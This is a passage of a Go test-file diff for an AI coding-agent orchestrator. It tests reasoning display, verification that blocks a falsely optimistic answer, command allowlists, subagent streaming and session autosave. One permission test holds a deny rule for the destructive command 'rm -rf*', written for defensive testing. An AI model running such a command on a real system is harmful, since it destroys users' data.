+		t.Fatalf("read session file: %v", err)
+	}
+	if !strings.Contains(string(data), `"tool_call_id": "call_1"`) {
+		t.Fatalf("session file should still record the tool exchange: %s", data)
 	}
 
-	// no known files -> empty
-	emptyDir := t.TempDir()
-	orchEmpty := New(nil, tools.NewRegistry(), Options{
-		WorkspaceRoot: emptyDir,
-	})
-	if got := orchEmpty.pickVerifyCommand(); got != "" {
-		t.Fatalf("expected empty command, got %q", got)
+	orch.SetQuiet(false)
+	orch.provider = newProvider()
+	out.Reset()
+	if _, err := orch.RunTurn(context.Background(), "run the tool again", &out); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
+	}
+	if !strings.Contains(out.String(), "[TOOL]") {
+		t.Fatalf("tool output should be back once quiet mode is off: %q", out.String())
 	}
 }
 
-func TestIsCoderConfigPath(t *testing.T) {
-	tests := []struct {
-		path string
-		want bool
-	}{
-		{path: ".coder/config.json", want: true},
-		{path: "sub/.coder/config.json", want: true},
-		{path: "CODER/config.json", want: false},
-		{path: "", want: false},
+func TestRunInputReasoningOffHidesThinking(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	newProvider := func() *scriptedProvider {
+		return &scriptedProvider{
+			model:     "demo-model",
+			responses: []provider.ChatResponse{{Reasoning: "secret chain of thought", Content: "the answer"}},
+		}
 	}
-	for _, tc := range tests {
-		got := isCoderConfigPath(tc.path)
-		if got != tc.want {
-			t.Fatalf("isCoderConfigPath(%q) = %v, want %v", tc.path, got, tc.want)
+	orch := New(newProvider(), tools.NewRegistry(), Options{})
+	if got, _ := orch.RunInput(context.Background(), "/reasoning off", nil); !strings.Contains(got, "Reasoning: off") || !strings.Contains(got, "discarded") {
+		t.Fatalf("/reasoning off output = %q", got)
+	}
+
+	var out bytes.Buffer
+	if _, err := orch.RunTurn(context.Background(), "explain", &out); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
+	}
+	if strings.Contains(out.String(), "[THINK]") || strings.Contains(out.String(), "secret chain of thought") {
+		t.Fatalf("reasoning should be hidden when off: %q", out.String())
+	}
+	if !strings.Contains(out.String(), "the answer") {
+		t.Fatalf("answer missing: %q", out.String())
+	}
+	for _, msg := range orch.messages {
+		if msg.Reasoning != "" {
+			t.Fatalf("reasoning should be discarded when off, got %+v", msg)
 		}
 	}
-}
 
-func TestEmitContextUpdateUsesLimitAndTokens(t *testing.T) {
-	orch := New(nil, tools.NewRegistry(), Options{
-		ContextTokenLimit: 1000,
-	})
-	orch.LoadMessages([]chat.Message{
-		{Role: "user", Content: "hello"},
-		{Role: "assistant", Content: "world"},
-	})
+	if got, _ := orch.RunInput(context.Background(), "/reasoning on", nil); got != "Reasoning: on." {
+		t.Fatalf("/reasoning on output = %q", got)
+	}
+	orch.provider = newProvider()
+	out.Reset()
+	if _, err := orch.RunTurn(context.Background(), "explain again", &out); err != nil {
+		t.Fatalf("RunTurn error: %v", err)
+	}
+	if !strings.Contains(out.String(), "secret chain of thought") {
+		t.Fatalf("reasoning should be shown once back on: %q", out.String())
+	}
+}
 
-	calls := 0
-	var lastTokens, lastLimit int
-	var lastPercent float64
-	orch.SetContextUpdateCallback(func(tokens, limit int, percent float64) {
-		calls++
-		lastTokens, lastLimit, lastPercent = tokens, limit, percent
-	})
+func TestRunTurnLocalizesVerifyRepairHint(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	newRun := func(workflow config.WorkflowConfig) *Orchestrator {
+		p := &scriptedProvider{
+			model: "demo-model",
+			responses: []provider.ChatResponse{
+				{ToolCalls: []chat.ToolCall{{ID: "call_1", Type: "function", Function: chat.ToolCallFunction{
+					Name: "write", Arguments: `{"path":"main.go","content":"package main"}`,
+				}}}},
+				{Content: "done"},
+				{Content: "done again"},
+			},
+		}
+		registry := tools.NewRegistry(
+			mockTool{name: "write", result: `{"ok":true,"path":"main.go","operation":"updated"}`},
+			mockTool{name: "bash", result: `{"ok":true,"exit_code":1,"stderr":"--- FAIL: TestMain"}`},
+		)
+		workflow.AutoVerifyAfterEdit = true
+		workflow.MaxVerifyAttempts = 2
+		workflow.VerifyCommands = []string{"go test ./..."}
+		return New(p, registry, Options{Workflow: workflow})
+	}
+	repairHint := func(orch *Orchestrator) string {
+		for _, msg := range orch.messages[1:] {
+			if msg.Role == "user" {
+				return msg.Content
+			}
+		}
+		return ""
+	}
 
-	orch.emitContextUpdate()
+	orch := newRun(config.WorkflowConfig{})
+	if _, err := orch.RunTurn(context.Background(), "修复构建错误", nil); err != nil {
+		t.Fatalf("RunTurn: %v", err)
+	}
+	if got := repairHint(orch); got != "自动校验命令 `go test ./...` 未通过。请修复问题，然后继续，直到校验通过。" {
+		t.Fatalf("CJK session should get the Chinese repair hint, got %q", got)
+	}
 
-	if calls != 1 {
-		t.Fatalf("expected 1 context update call, got %d", calls)
+	orch = newRun(config.WorkflowConfig{})
+	if _, err := orch.RunTurn(context.Background(), "fix the build", nil); err != nil {
+		t.Fatalf("RunTurn: %v", err)
 	}
-	if lastLimit != 1000 {
-		t.Fatalf("unexpected limit: %d", lastLimit)
+	if got := repairHint(orch); !strings.HasPrefix(got, "Auto verification command `go test ./...` failed.") {
+		t.Fatalf("English session should keep the English repair hint, got %q", got)
 	}
-	if lastTokens <= 0 {
-		t.Fatalf("expected positive token estimate, got %d", lastTokens)
+
+	orch = newRun(config.WorkflowConfig{VerifyRepairPrompt: "Run {command} again and fix what it reports."})
+	if _, err := orch.RunTurn(context.Background(), "修复构建错误", nil); err != nil {
+		t.Fatalf("RunTurn: %v", err)
 	}
-	if lastPercent <= 0 {
-		t.Fatalf("expected positive usage percent, got %f", lastPercent)
+	if got := repairHint(orch); got != "Run go test ./... again and fix what it reports." {
+		t.Fatalf("configured repair prompt should win, got %q", got)
 	}
 }
 
-func TestRefreshTodosUsesTodoToolAndCallback(t *testing.T) {
+func TestRunTurnBlocksAnswerWhenVerificationKeepsFailing(t *testing.T) {
+	t.Setenv("NO_COLOR", "1")
+	writeCall := chat.ToolCall{ID: "call_1", Type: "function", Function: chat.ToolCallFunction{
+		Name: "write", Arguments: `{"path":"main.go","content":"package main"}`,
+	}}
+	p := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{writeCall}},
+			{Content: "All done, tests pass!"},
+			{Content: "Fixed it, everything is green now."},
+		},
+	}
 	registry := tools.NewRegistry(
-		mockTool{name: "todoread", result: `{"ok":true,"count":1,"items":[{"content":"demo","status":"pending"}]}`},
+		mockTool{name: "write", result: `{"ok":true,"path":"main.go","operation":"updated"}`},
+		mockTool{name: "bash", result: `{"ok":true,"exit_code":1,"stderr":"--- FAIL: TestMain"}`},
 	)
-	orch := New(nil, registry, Options{})
-
-	var seen []string
-	orch.SetTodoUpdateCallback(func(items []string) {
-		seen = append(seen, items...)
-	})
+	orch := New(p, registry, Options{Workflow: config.WorkflowConfig{
+		AutoVerifyAfterEdit:      true,
+		MaxVerifyAttempts:        2,
+		VerifyCommands:           []string{"go test ./..."},
+		BlockAnswerUntilVerified: true,
+	}})
 
-	orch.refreshTodos(context.Background())
-
-	if len(seen) != 1 {
-		t.Fatalf("expected 1 todo item, got %d", len(seen))
+	var out bytes.Buffer
+	answer, err := orch.RunTurn(context.Background(), "fix the build", &out)
+	if !errors.Is(err, ErrVerificationFailed) {
+		t.Fatalf("RunTurn err = %v, want ErrVerificationFailed", err)
 	}
-	if !strings.Contains(seen[0], "demo") {
-		t.Fatalf("unexpected todo content: %q", seen[0])
+	if !strings.Contains(answer, "Verification failed: `go test ./...` still fails after 2 attempt(s)") {
+		t.Fatalf("answer should be the failure message, got %q", answer)
+	}
+	if strings.Contains(answer, "green") {
+		t.Fatalf("optimistic model answer must not be returned: %q", answer)
+	}
+	last := orch.messages[len(orch.messages)-1]
+	if last.Role != "assistant" || last.Content != answer {
+		t.Fatalf("failure message should be the last assistant message, got %+v", last)
+	}
+	if p.callCount != 3 {
+		t.Fatalf("expected one repair round before giving up, provider calls = %d", p.callCount)
 	}
 }
 
-func TestFlushSessionToFileWritesPerSessionJSON(t *testing.T) {
-	tmpDir := t.TempDir()
-	sid := "sess_test"
-	registry := tools.NewRegistry(
-		mockTool{name: "read", result: `{"ok":true}`},
-	)
-	orch := New(nil, registry, Options{
-		WorkspaceRoot: tmpDir,
-		SessionIDRef:  &sid,
-	})
-	orch.assembler = contextmgr.New("SYSTEM_PROMPT", tmpDir, "", nil)
-
-	orch.appendMessage(chat.Message{Role: "user", Content: "hello"})
-	orch.appendMessage(chat.Message{Role: "assistant", Content: "world"})
-	orch.appendMessage(chat.Message{
-		Role: "assistant",
-		ToolCalls: []chat.ToolCall{
-			{
-				ID:   "call_read_1",
-				Type: "function",
-				Function: chat.ToolCallFunction{
-					Name:      "read",
-					Arguments: `{"path":"README.md"}`,
-				},
-			},
+func TestLastCommandRecallsPreviousBashResult(t *testing.T) {
+	lastCommand := tools.NewLastCommandTool(nil)
+	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil), lastCommand)
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_bash", Type: "function", Function: chat.ToolCallFunction{
+				Name: "bash", Arguments: `{"command":"printf 'built ok'; printf 'warn' >&2; exit 3"}`,
+			}}}},
+			{ToolCalls: []chat.ToolCall{{ID: "call_last", Type: "function", Function: chat.ToolCallFunction{
+				Name: "last_command", Arguments: `{}`,
+			}}}},
+			{Content: "done"},
 		},
-	})
-	orch.appendMessage(chat.Message{
-		Role:       "tool",
-		Content:    `{"ok":true}`,
-		Name:       "read",
-		ToolCallID: "call_read_1",
-	})
-
-	if err := orch.flushSessionToFile(context.Background()); err != nil {
-		t.Fatalf("flushSessionToFile failed: %v", err)
 	}
+	orch := New(prov, registry, Options{})
+	lastCommand.SetHistory(orch.Messages)
 
-	path := filepath.Join(tmpDir, ".coder", "sessions", sid+".json")
-	data, err := os.ReadFile(path)
-	if err != nil {
-		t.Fatalf("read session file: %v", err)
+	if _, err := orch.RunInput(context.Background(), "build it", nil); err != nil {
+		t.Fatalf("RunInput failed: %v", err)
 	}
-
-	var sf sessionFile
-	if err := json.Unmarshal(data, &sf); err != nil {
-		t.Fatalf("unmarshal session file: %v", err)
+	var recalled string
+	for _, msg := range orch.Messages() {
+		if msg.Role == "tool" && msg.ToolCallID == "call_last" {
+			recalled = msg.Content
+		}
+	}
+	var got struct {
+		OK       bool   `json:"ok"`
+		Command  string `json:"command"`
+		ExitCode int    `json:"exit_code"`
+		Stdout   string `json:"stdout"`
+		Stderr   string `json:"stderr"`
+	}
+	if err := json.Unmarshal([]byte(recalled), &got); err != nil {
+		t.Fatalf("last_command result is not JSON: %q", recalled)
 	}
+	if !got.OK || got.ExitCode != 3 || got.Stdout != "built ok" || got.Stderr != "warn" || !strings.Contains(got.Command, "exit 3") {
+		t.Fatalf("unexpected last_command result: %+v", got)
+	}
+}
 
-	if sf.SessionID != sid {
-		t.Fatalf("SessionID=%q, want %q", sf.SessionID, sid)
+func TestLastCommandInSubtaskRecallsChildBashResult(t *testing.T) {
+	lastCommand := tools.NewLastCommandTool(nil)
+	registry := tools.NewRegistry(tools.NewBashTool(t.TempDir(), 2000, 1<<20, nil), lastCommand)
+	bashCall := func(id, command string) provider.ChatResponse {
+		return provider.ChatResponse{ToolCalls: []chat.ToolCall{{ID: id, Type: "function", Function: chat.ToolCallFunction{
+			Name: "bash", Arguments: `{"command":"` + command + `"}`,
+		}}}}
 	}
-	if len(sf.Tools) == 0 {
-		t.Fatalf("expected non-empty tools slice in session file")
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			bashCall("call_parent", "printf parent"),
+			{Content: "parent done"},
+			bashCall("call_child", "printf child"),
+			{ToolCalls: []chat.ToolCall{{ID: "call_last", Type: "function", Function: chat.ToolCallFunction{
+				Name: "last_command", Arguments: `{}`,
+			}}}},
+			{Content: "child done"},
+		},
 	}
-	foundRead := false
-	for _, td := range sf.Tools {
-		if td.Function.Name == "read" {
-			if td.Type != "function" {
-				t.Fatalf("tool type=%q, want function", td.Type)
-			}
-			foundRead = true
-		}
+	agents := config.AgentConfig{Definitions: []config.AgentDefinition{
+		{Name: "runner", Mode: "subagent", Tools: map[string]string{"bash": "on", "last_command": "on"}},
+	}}
+	orch := New(prov, registry, Options{Agents: agents})
+	lastCommand.SetHistory(orch.Messages)
+
+	if _, err := orch.RunInput(context.Background(), "run it", nil); err != nil {
+		t.Fatalf("RunInput failed: %v", err)
 	}
-	if !foundRead {
-		t.Fatalf("expected tool definition for \"read\" in tools list")
+	if _, err := orch.RunSubtask(context.Background(), "runner", "run it again", nil); err != nil {
+		t.Fatalf("RunSubtask: %v", err)
 	}
-	if sf.CreatedAt == "" || sf.UpdatedAt == "" {
-		t.Fatalf("expected non-empty timestamps, got created_at=%q updated_at=%q", sf.CreatedAt, sf.UpdatedAt)
+	var recalled string
+	for _, msg := range prov.requests[len(prov.requests)-1].Messages {
+		if msg.Role == "tool" && msg.ToolCallID == "call_last" {
+			recalled = msg.Content
+		}
 	}
-	if _, err := time.Parse(time.RFC3339, sf.CreatedAt); err != nil {
-		t.Fatalf("created_at not RFC3339: %v", err)
+	var got struct {
+		Command string `json:"command"`
+		Stdout  string `json:"stdout"`
 	}
-	if len(sf.Messages) != 5 {
-		t.Fatalf("expected 5 messages (1 system + 4 runtime), got %d", len(sf.Messages))
+	if err := json.Unmarshal([]byte(recalled), &got); err != nil {
+		t.Fatalf("last_command result is not JSON: %q", recalled)
 	}
-	if sf.Messages[0].Role != "system" {
-		t.Fatalf("first message role=%q, want system", sf.Messages[0].Role)
+	if got.Command != "printf child" || got.Stdout != "child" {
+		t.Fatalf("subtask last_command should recall the child's own bash call, got %+v", got)
 	}
-	for i, m := range sf.Messages {
-		if strings.TrimSpace(m.Timestamp) == "" {
-			t.Fatalf("message %d has empty timestamp", i)
+}
+
+func TestAllowlistAddRemovePersistsAndUpdatesPolicy(t *testing.T) {
+	root := t.TempDir()
+	pol := permission.New(config.PermissionConfig{Default: "ask"})
+	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(), Options{Policy: pol, ConfigBasePath: root})
+	pol.Restore(config.PermissionConfig{Default: "ask", Bash: map[string]string{"*": "ask", "rm -rf*": "deny"}})
+	decide := func() permission.Decision {
+		return pol.Decide("bash", json.RawMessage(`{"command":"npm test"}`)).Decision
+	}
+	persisted := func() []string {
+		data, err := os.ReadFile(filepath.Join(root, ".coder", "config.json"))
+		if err != nil {
+			t.Fatalf("read project config: %v", err)
+		}
+		var cfg struct {
+			Permission struct {
+				CommandAllowlist []string `json:"command_allowlist"`
+			} `json:"permission"`
 		}
+		if err := json.Unmarshal(data, &cfg); err != nil {
+			t.Fatalf("parse project config: %v", err)
+		}
+		return cfg.Permission.CommandAllowlist
 	}
 
-	firstCreated := sf.CreatedAt
-
-	// 第二次刷新应保留 created_at，并追加新消息。
-	orch.appendMessage(chat.Message{Role: "user", Content: "follow-up"})
-	time.Sleep(10 * time.Millisecond)
+	got, _ := orch.RunInput(context.Background(), "/allowlist add npm", nil)
+	if !strings.Contains(got, `Added "npm"`) {
+		t.Fatalf("unexpected /allowlist add output: %q", got)
+	}
+	if decide() != permission.DecisionAllow {
+		t.Fatal("live policy should allow npm after /allowlist add")
+	}
+	if list := persisted(); len(list) != 1 || list[0] != "npm" {
+		t.Fatalf("persisted allowlist = %v, want [npm]", list)
+	}
 
-	if err := orch.flushSessionToFile(context.Background()); err != nil {
-		t.Fatalf("second flushSessionToFile failed: %v", err)
+	got, _ = orch.RunInput(context.Background(), "/allowlist", nil)
+	if !strings.Contains(got, "  npm") || !strings.Contains(got, "  rm -rf*") {
+		t.Fatalf("listing should show allowlist and deny patterns: %q", got)
 	}
 
-	data2, err := os.ReadFile(path)
-	if err != nil {
-		t.Fatalf("read session file after second flush: %v", err)
+	got, _ = orch.RunInput(context.Background(), "/allowlist remove npm", nil)
+	if !strings.Contains(got, `Removed "npm"`) {
+		t.Fatalf("unexpected /allowlist remove output: %q", got)
 	}
-	var sf2 sessionFile
-	if err := json.Unmarshal(data2, &sf2); err != nil {
-		t.Fatalf("unmarshal session file after second flush: %v", err)
+	if decide() != permission.DecisionAsk {
+		t.Fatal("live policy should ask for npm after /allowlist remove")
 	}
-	if sf2.CreatedAt != firstCreated {
-		t.Fatalf("CreatedAt changed across flushes: first=%q second=%q", firstCreated, sf2.CreatedAt)
+	if list := persisted(); len(list) != 0 {
+		t.Fatalf("persisted allowlist = %v, want empty", list)
 	}
-	if len(sf2.Messages) != 6 {
-		t.Fatalf("expected 6 messages after second flush, got %d", len(sf2.Messages))
+	if got, _ := orch.RunInput(context.Background(), "/allowlist remove npm", nil); !strings.Contains(got, "not in the command allowlist") {
+		t.Fatalf("removing a missing entry should say so: %q", got)
 	}
 }
 
-// TestAgentToolFiltering verifies that tool definitions are properly filtered
-// based on agent mode (build vs plan) following the opencode approach.
-// Tools are filtered out from LLM-visible list at request time, not at registration.
-func TestAgentToolFiltering(t *testing.T) {
-	// Create registry with all tools including question
-	registry := tools.NewRegistry(
-		mockTool{name: "read"},
-		mockTool{name: "edit"},
-		mockTool{name: "question"},
-		mockTool{name: "task"},
-	)
-
-	// Test build mode: should filter out question
-	buildAgent := agent.Resolve("build", config.AgentConfig{})
-	if buildAgent.ToolEnabled["question"] {
-		t.Fatal("build agent should have question disabled")
+func TestStreamSubagentsForwardsPrefixedEventsToParent(t *testing.T) {
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{{ID: "call_read", Type: "function", Function: chat.ToolCallFunction{
+				Name: "read", Arguments: `{"path":"main.go"}`,
+			}}}},
+			{Content: "main.go declares package main"},
+		},
 	}
-	buildDefs := registry.DefinitionsFiltered(buildAgent.ToolEnabled)
-	for _, def := range buildDefs {
-		if def.Function.Name == "question" {
-			t.Fatal("question tool should be filtered out in build mode")
-		}
+	registry := tools.NewRegistry(mockTool{name: "read", result: `{"ok":true,"path":"main.go","content":"package main"}`})
+	orch := New(prov, registry, Options{Workflow: config.WorkflowConfig{StreamSubagents: true}})
+	type event struct {
+		name, summary string
+		done          bool
 	}
+	var events []event
+	orch.SetToolEventCallback(func(name, summary string, done bool) {
+		events = append(events, event{name, summary, done})
+	})
+	var text strings.Builder
+	orch.SetTextStreamCallback(func(chunk string) { text.WriteString(chunk) })
 
-	// Test plan mode: should keep question but filter out edit/task
-	planAgent := agent.Resolve("plan", config.AgentConfig{})
-	if !planAgent.ToolEnabled["question"] {
-		t.Fatal("plan agent should have question enabled")
+	if _, err := orch.RunSubtask(context.Background(), "explore", "inspect main.go", nil); err != nil {
+		t.Fatalf("RunSubtask: %v", err)
 	}
-	if planAgent.ToolEnabled["edit"] {
-		t.Fatal("plan agent should have edit disabled")
+	if len(events) != 2 {
+		t.Fatalf("expected start and finish events for the child's read, got %+v", events)
 	}
-	if planAgent.ToolEnabled["task"] {
-		t.Fatal("plan agent should have task disabled")
+	if events[0].name != "read" || events[0].done || !strings.HasPrefix(events[0].summary, "[subagent:explore] * Read") {
+		t.Fatalf("unexpected start event: %+v", events[0])
 	}
-	planDefs := registry.DefinitionsFiltered(planAgent.ToolEnabled)
-	hasQuestion := false
-	hasEdit := false
-	hasTask := false
-	for _, def := range planDefs {
-		switch def.Function.Name {
-		case "question":
-			hasQuestion = true
-		case "edit":
-			hasEdit = true
-		case "task":
-			hasTask = true
-		}
+	if !events[1].done || !strings.HasPrefix(events[1].summary, "[subagent:explore] ") {
+		t.Fatalf("unexpected finish event: %+v", events[1])
 	}
-	if !hasQuestion {
-		t.Fatal("question tool should be available in plan mode")
+
+	child := New(nil, tools.NewRegistry(), Options{})
+	orch.forwardSubagentStream(child, "explore")
+	for _, chunk := range []string{"first ", "line\nsec", "ond line"} {
+		child.onTextChunk(chunk)
 	}
-	if hasEdit {
-		t.Fatal("edit tool should be filtered out in plan mode")
+	if got, want := text.String(), "[subagent:explore] first line\n[subagent:explore] second line"; got != want {
+		t.Fatalf("forwarded text = %q, want %q", got, want)
 	}
-	if hasTask {
-		t.Fatal("task tool should be filtered out in plan mode")
+
+	quiet := New(&scriptedProvider{model: "demo-model", responses: prov.responses}, registry, Options{})
+	events = nil
+	quiet.SetToolEventCallback(func(name, summary string, done bool) { events = append(events, event{name, summary, done}) })
+	if _, err := quiet.RunSubtask(context.Background(), "explore", "inspect main.go", nil); err != nil {
+		t.Fatalf("RunSubtask: %v", err)
+	}
+	if len(events) != 0 {
+		t.Fatalf("without workflow.stream_subagents the child should stay silent, got %+v", events)
 	}
 }
 
-func TestResolveToolDefsForInput_MinimalByDefault(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "read"},
-		mockTool{name: "list"},
-		mockTool{name: "grep"},
-		mockTool{name: "edit"},
-		mockTool{name: "write"},
-		mockTool{name: "bash"},
-		mockTool{name: "fetch"},
-		mockTool{name: "patch"},
-		mockTool{name: "task"},
-		mockTool{name: "git_status"},
-		mockTool{name: "question"},
-	)
-	orch := New(&scriptedProvider{model: "test"}, registry, Options{
-		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
-	})
-	defs := orch.resolveToolDefsForInput("请修复这个函数")
-	seen := map[string]bool{}
-	for _, def := range defs {
-		seen[def.Function.Name] = true
-	}
-	for _, name := range []string{"read", "list", "grep", "edit", "write", "bash"} {
-		if !seen[name] {
-			t.Fatalf("expected core tool %q to be exposed", name)
+// sessionPeekTool 在执行时读取会话文件，记录回合进行中已落盘的内容。
+// sessionPeekTool reads the session file when executed, recording what a running turn has persisted so far.
+type sessionPeekTool struct {
+	path  string
+	seen  []string
+	calls int
+}
+
+func (t *sessionPeekTool) Name() string { return "peek" }
+
+func (t *sessionPeekTool) Definition() chat.ToolDef {
+	return chat.ToolDef{Type: "function", Function: chat.ToolFunction{Name: "peek", Parameters: map[string]any{"type": "object"}}}
+}
+
+func (t *sessionPeekTool) Execute(context.Context, json.RawMessage) (string, error) {
+	data, _ := os.ReadFile(t.path)
+	t.seen = append(t.seen, string(data))
+	t.calls++
+	return `{"ok":true}`, nil
+}
+
+func TestLongTurnPersistsToolResultsBeforeCompletion(t *testing.T) {
+	run := func(t *testing.T, interval time.Duration) *sessionPeekTool {
+		root := t.TempDir()
+		sid := "autosave-session"
+		peek := &sessionPeekTool{path: filepath.Join(root, ".coder", "sessions", sid+".json")}
+		call := func(id, name string) provider.ChatResponse {
+			return provider.ChatResponse{ToolCalls: []chat.ToolCall{{ID: id, Type: "function", Function: chat.ToolCallFunction{Name: name, Arguments: `{}`}}}}
 		}
-	}
-	for _, name := range []string{"fetch", "patch", "task", "git_status", "question"} {
-		if seen[name] {
-			t.Fatalf("did not expect optional tool %q to be exposed by default", name)
+		prov := &scriptedProvider{model: "demo-model", responses: []provider.ChatResponse{
+			call("call_1", "step_one"), call("call_2", "peek"),
+			call("call_3", "step_two"), call("call_4", "peek"),
+			{Content: "all steps done"},
+		}}
+		registry := tools.NewRegistry(
+			mockTool{name: "step_one", result: `{"ok":true,"marker":"STEP_ONE_RESULT"}`},
+			mockTool{name: "step_two", result: `{"ok":true,"marker":"STEP_TWO_RESULT"}`},
+			peek,
+		)
+		orch := New(prov, registry, Options{WorkspaceRoot: root, SessionIDRef: &sid, AutosaveInterval: interval})
+		now := time.Date(2026, 3, 1, 10, 0, 0, 0, time.UTC)
+		orch.now = func() time.Time { return now }
+
+		if _, err := orch.RunInput(context.Background(), "run both steps", nil); err != nil {
+			t.Fatalf("RunInput: %v", err)
 		}
+		if peek.calls != 2 {
+			t.Fatalf("peek ran %d times, want 2", peek.calls)
+		}
+		data, err := os.ReadFile(peek.path)
+		if err != nil {
+			t.Fatalf("read session file: %v", err)
+		}
+		if !strings.Contains(string(data), "STEP_TWO_RESULT") || !strings.Contains(string(data), "all steps done") {
+			t.Fatal("the end of the turn should persist every message")
+		}
+		return peek
 	}
-}
 
-func TestResolveToolDefsForInput_ExposesFetchAndPatchOnDemand(t *testing.T) {
-	registry := tools.NewRegistry(
-		mockTool{name: "read"},
-		mockTool{name: "bash"},
-		mockTool{name: "fetch"},
-		mockTool{name: "patch"},
-	)
-	orch := New(&scriptedProvider{model: "test"}, registry, Options{
-		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
+	t.Run("every tool result", func(t *testing.T) {
+		peek := run(t, 0)
+		if !strings.Contains(peek.seen[0], "STEP_ONE_RESULT") || !strings.Contains(peek.seen[1], "STEP_TWO_RESULT") {
+			t.Fatal("each tool result should be on disk while the turn is still running")
+		}
 	})
-	defs := orch.resolveToolDefsForInput("请根据 https://intranet.example/api/docs 修复这个 diff patch")
-	seen := map[string]bool{}
-	for _, def := range defs {
-		seen[def.Function.Name] = true
+	t.Run("debounced", func(t *testing.T) {
+		peek := run(t, time.Minute)
+		if !strings.Contains(peek.seen[0], "run both steps") {
+			t.Fatal("the first checkpoint of the turn should be written")
+		}
+		if strings.Contains(peek.seen[1], "STEP_TWO_RESULT") {
+			t.Fatal("writes within autosave_interval should be debounced")
+		}
+	})
+}
+
+type fixedReviewPrompter struct{ answer string }
+
+func (p fixedReviewPrompter) PromptQuestion(context.Context, tools.QuestionRequest) (*tools.QuestionResponse, error) {
+	return &tools.QuestionResponse{Answers: []string{p.answer}}, nil
+}
+
+func TestRequestReviewRejectionReachesModel(t *testing.T) {
+	reviewCall := chat.ToolCall{ID: "call_1", Type: "function", Function: chat.ToolCallFunction{
+		Name: "request_review", Arguments: `{"summary":"Rename Config.Port to Config.ListenPort"}`,
+	}}
+	prov := &scriptedProvider{
+		model: "demo-model",
+		responses: []provider.ChatResponse{
+			{ToolCalls: []chat.ToolCall{reviewCall}},
+			{Content: "ok, doing X instead"},
+		},
 	}
-	if !seen["fetch"] {
-		t.Fatal("expected fetch to be exposed for URL/docs request")
+	orch := New(prov, tools.NewRegistry(tools.NewRequestReviewTool()), Options{})
+
+	ctx := tools.WithQuestionPrompter(context.Background(), fixedReviewPrompter{answer: "rejected: do X"})
+	if _, err := orch.RunInput(ctx, "review the rename with me first", nil); err != nil {
+		t.Fatalf("RunInput: %v", err)
 	}
-	if !seen["patch"] {
-		t.Fatal("expected patch to be exposed for diff/patch request")
+	if len(prov.requests) != 2 {
+		t.Fatalf("expected 2 provider calls, got %d", len(prov.requests))
 	}
-}
-
-func TestRuntimeToolsSystemMessage_OnlyMentionsVisibleRules(t *testing.T) {
-	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(mockTool{name: "fetch"}), Options{
-		ActiveAgent: agent.Resolve("build", config.AgentConfig{}),
-	})
-	msg := orch.runtimeToolsSystemMessage([]chat.ToolDef{
-		{Type: "function", Function: chat.ToolFunction{Name: "read", Parameters: map[string]any{"type": "object"}}},
-		{Type: "function", Function: chat.ToolFunction{Name: "fetch", Parameters: map[string]any{"type": "object"}}},
-	})
-	if !strings.Contains(msg.Content, "fetch may be used") {
-		t.Fatalf("expected fetch guidance, got %q", msg.Content)
+	var toolResult string
+	for _, msg := range prov.requests[1].Messages {
+		if msg.Role == "tool" && msg.ToolCallID == "call_1" {
+			toolResult = msg.Content
+		}
 	}
-	if strings.Contains(msg.Content, "Use patch only") {
-		t.Fatalf("did not expect patch guidance, got %q", msg.Content)
+	if !strings.Contains(toolResult, `"decision":"rejected"`) || !strings.Contains(toolResult, `"comments":"do X"`) {
+		t.Fatalf("review decision should reach the model, got %q", toolResult)
 	}
-	if !strings.Contains(msg.Content, "Do not create or update todos") {
-		t.Fatalf("expected todo suppression guidance, got %q", msg.Content)
+
+	out, err := tools.NewRequestReviewTool().Execute(context.Background(), json.RawMessage(`{"summary":"x"}`))
+	if err != nil {
+		t.Fatalf("Execute without prompter: %v", err)
+	}
+	if !strings.Contains(out, "review unavailable") {
+		t.Fatalf("expected review unavailable without a prompter, got %q", out)
 	}
 }
 
-func TestRuntimeModeSystemMessage_PlanForbidsMutatingExecution(t *testing.T) {
-	orch := New(&scriptedProvider{model: "test"}, tools.NewRegistry(mockTool{name: "bash"}), Options{
-		ActiveAgent: agent.Resolve("plan", config.AgentConfig{}),
+func TestContextShowPrintsStaticContext(t *testing.T) {
+	tmpDir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(tmpDir, "AGENTS.md"), []byte("Always run make lint before committing."), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	orch := New(nil, tools.NewRegistry(), Options{
+		WorkspaceRoot: tmpDir,
+		Assembler:     contextmgr.New("You are a careful coding agent.", tmpDir, "", nil),
 	})
-	orch.SetMode("PLAN")
 
-	msg := orch.runtimeModeSystemMessage()
-	for _, needle := range []string{
-		"do NOT execute it in PLAN mode",
-		"Respond with a concise plan or next steps instead",
-		"treat it as read-only diagnostics only",
+	got, err := orch.RunInput(context.Background(), "/context show", nil)
+	if err != nil {
+		t.Fatalf("RunInput /context show: %v", err)
+	}
+	for _, want := range []string{
+		"[SYSTEM_PROMPT]",
+		"You are a careful coding agent.",
+		"[PROJECT_RULES]",
+		"Always run make lint before committing.",
+		"[RUNTIME_MODE]",
+		"tokens",
 	} {
-		if !strings.Contains(msg.Content, needle) {
-			t.Fatalf("expected %q in plan runtime message, got %q", needle, msg.Content)
+		if !strings.Contains(got, want) {
+			t.Fatalf("/context show should include %q, got:\n%s", want, got)
 		}
 	}
-}
-
-func TestToolResultCheckpointPersistsMidTurnProgress(t *testing.T) {
-	root := t.TempDir()
-	dbPath := filepath.Join(root, "coder.db")
-	store, err := storage.NewSQLiteStore(dbPath)
-	if err != nil {
-		t.Fatalf("new sqlite store: %v", err)
+	if got, _ := orch.RunInput(context.Background(), "/context bogus", nil); got != "Usage: /context show" {
